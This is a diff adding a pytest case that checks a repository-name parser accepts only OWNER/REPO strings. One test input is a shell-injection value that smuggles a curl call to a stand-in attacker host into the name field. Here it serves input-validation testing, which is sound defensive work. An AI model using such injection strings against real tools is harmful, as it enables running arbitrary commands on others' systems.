@@ -193,3 +193,12 @@ def test_the_fake_runs_as_a_command_and_keeps_its_state_in_a_file(tmp_path: Path
         proc.wait(timeout=10)
     saved = json.loads(state.read_text())
     assert OPS_REPO in saved["repos"] and saved["requests"][-1]["path"] == f"/repos/{OPS_REPO}"
+
+
+@pytest.mark.parametrize(
+    "text", ['shop/x"; curl https://evil.example #', "https://github.com/shop/shop", "shop", "shop/.."]
+)
+def test_a_repository_must_be_owner_slash_name(text: str) -> None:
+    with pytest.raises(UsageError, match="is not a GitHub repository: expected OWNER/REPO"):
+        RepoName.parse(text)
+    assert str(RepoName.parse("shop-ops/deploy.ments_1")) == "shop-ops/deploy.ments_1"
